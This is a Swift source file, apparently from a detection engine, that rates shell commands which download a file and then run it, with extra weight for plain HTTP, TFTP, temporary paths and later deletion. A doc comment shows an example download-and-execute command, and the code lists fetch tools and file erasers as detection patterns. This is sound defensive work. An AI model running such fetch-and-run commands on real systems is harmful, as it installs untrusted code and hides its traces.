import Bytes
import Evidence

/// Tells whether a command fetches a file and starts that very file: `wget http://h/x; chmod +x x; ./x`.
enum FetchedFile {
  private static let fetchers = NameTable(["curl", "wget", "tftp", "ftpget", "aria2c", "axel"])
  private static let erasers = NameTable(["rm", "unlink", "shred"])
  /// Files of one line: bots try a dozen builds.
  private static let maximum = 32

  /// Software is fetched over TLS, unpacked and kept: what is not is odd, and twice odd is medium.
  static func severity(_ it: BehaviourText) -> Severity? {
    let fetches = it.marks(fetchers).places
    guard let first = fetches.first, first + 1 < it.programs.count else { return nil }
    let names = fetches.prefix(maximum).flatMap { Self.names(it.programs[$0]) }.prefix(maximum)
    guard
      let start = it.programs.indices.first(where: { index in
        index > first && started(it, index).map { file in names.contains { $0 == ShellWords.baseName(file) } } == true
      })
    else { return nil }
    let isErased = it.programs.indices.contains { index in
      index > start && erasers.contains(it.tools[index])
        && it.programs[index].contains { word in names.contains { $0 == ShellWords.baseName(word) } }
    }
    let isBare = it.hasAny(["http://", "ftp://", "--no-check-certificate", "--insecure"]) || it.tools[first] == "tftp"
    let isScratch = started(it, start).map { it.isTemporary($0) } ?? false
    if isBare && (isErased || isScratch || it.tools[first] == "tftp") { return .medium }
    return isBare || isScratch ? .low : nil
  }

  /// What the fetched files are called: by the URL's end, or as told.
  private static func names(_ words: WordRun) -> [ByteView] {
    var names: [ByteView] = []
    var isName = false
    for word in words.dropFirst().prefix(maximum) {
      if isName || word.firstIndex(of: ByteView("://")) != nil { names.append(ShellWords.baseName(word)) }
      isName = word == "-O" || word == "-o" || word == "-r" || word == "--output" || word == ">"
    }
    return names.filter { !$0.isEmpty }
  }

  /// The file that a command starts: itself, or as an interpreter's script.
  private static func started(_ it: BehaviourText, _ index: Int) -> ByteView? {
    guard let program = it.programs[index].first else { return nil }
    if program[0] == 0x2E && program[1] == 0x2F || it.isTemporary(program) { return program }
    guard BehaviourText.interpreters.contains(it.tools[index]) else { return nil }
    return it.programs[index].dropFirst().first { $0[0] != 0x2D }
  }
}
